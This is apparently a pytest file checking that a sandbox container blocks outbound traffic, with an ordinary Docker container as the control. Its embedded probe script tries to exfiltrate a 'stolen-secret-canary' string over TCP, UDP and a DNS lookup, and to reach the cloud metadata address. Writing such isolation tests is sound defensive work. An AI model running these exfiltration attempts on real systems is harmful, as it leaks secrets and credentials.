"""From a sandbox nothing goes to this machine, to a neighbour or to a resolver; from a usual container it does."""

import asyncio
import contextlib
import ipaddress
import json
import socket
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field

import docker
import pytest

from sandbox.container import Sandbox
from tests.docker.conftest import TEST_LABELS
from tests.docker.recorder import BOUND

pytestmark = pytest.mark.docker

STOLEN = "stolen-secret-canary"
TRY = f"""
import json, socket, sys
tried = {{}}
def attempt(name, action):
    try: tried[name] = action() or "sent"
    except OSError as error: tried[name] = str(error)
def stream(family, address):
    line = socket.socket(family); line.settimeout(5)
    line.connect(address); line.sendall(b"{STOLEN}"); line.close()
host, port = sys.argv[1], int(sys.argv[2])
attempt("a service of the host", lambda: stream(socket.AF_INET, (host, port)))
datagram = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
attempt("a resolver", lambda: datagram.sendto(b"{STOLEN}", (host, port)) and None)
def resolve():
    socket.getaddrinfo("{STOLEN}.invalid", 80)
attempt("a name", resolve)
attempt("the metadata of a cloud", lambda: stream(socket.AF_INET, ("169.254.169.254", 80)))
attempt("IPv6", lambda: stream(socket.AF_INET6, ("fe80::1", 80)))
print(json.dumps([tried, [name for _, name in socket.if_nameindex()]]))
"""


@dataclass
class Listener:
    """A service on all addresses of this machine, over TCP and UDP on one port; `heard` is what came."""

    port: int
    heard: list[bytes] = field(default_factory=list)
    came: threading.Event = field(default_factory=threading.Event)


@pytest.fixture
def listener() -> Iterator[Listener]:
    with contextlib.ExitStack() as open_ones:
        stream = open_ones.enter_context(socket.socket())
        stream.bind(("0.0.0.0", 0))
        stream.listen()
        datagrams = open_ones.enter_context(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
        datagrams.bind(("0.0.0.0", stream.getsockname()[1]))
        made = Listener(stream.getsockname()[1])

        def note(data: bytes) -> None:
            made.heard.append(data)
            if len(made.heard) == 2:
                made.came.set()

        def accept() -> None:
            with contextlib.suppress(OSError):
                while True:
                    line, _ = stream.accept()
                    with line:
                        note(line.recv(100))

        def receive() -> None:
            with contextlib.suppress(OSError):
                while data := datagrams.recv(100):
                    note(data)

        threads = [threading.Thread(target=each, daemon=True) for each in (accept, receive)]
        for thread in threads:
            thread.start()
        yield made
        for each in (stream, datagrams):
            with contextlib.suppress(OSError):
                each.shutdown(socket.SHUT_RDWR)
    for thread in threads:
        thread.join(BOUND)
        assert not thread.is_alive()


def usual(image: str, gateway: str, port: int) -> str:
    """Run the same in a container as the engine makes it when nothing is said; its resolver may answer nothing."""
    client = docker.from_env(timeout=90)
    try:
        argv = ["python3", "-c", TRY, gateway, str(port)]
        said: bytes = client.containers.run(image, argv, labels=TEST_LABELS, remove=True, network_mode="bridge")
        return said.decode()
    finally:
        client.close()


def gateway_of_the_bridge() -> str:
    client = docker.from_env(timeout=30)
    try:
        (network,) = client.networks.get("bridge").attrs["IPAM"]["Config"]
        return str(ipaddress.ip_network(network["Subnet"])[1])
    finally:
        client.close()


@pytest.mark.requirement("T3", "T4", "T5")
async def test_nothing_leaves_a_sandbox_for_the_host_or_a_resolver(
    sandbox: Sandbox,
    image: str,
    listener: Listener,
) -> None:
    gateway = await asyncio.to_thread(gateway_of_the_bridge)
    argv = ("python3", "-c", TRY, gateway, str(listener.port))
    done = await sandbox.run(argv, cwd="/", limit_bytes=10_000, timeout=BOUND)
    tried, interfaces = json.loads(done.stdout)
    assert [what for what, how in tried.items() if how == "sent"] == []
    assert interfaces == ["lo"]
    assert listener.heard == []
    tried, interfaces = json.loads(await asyncio.to_thread(usual, image, gateway, listener.port))
    assert (tried["a service of the host"], tried["a resolver"]) == ("sent", "sent"), "the control: it can be done"
    assert await asyncio.to_thread(listener.came.wait, BOUND)
    assert set(listener.heard) == {STOLEN.encode()}
    assert len(interfaces) > 1
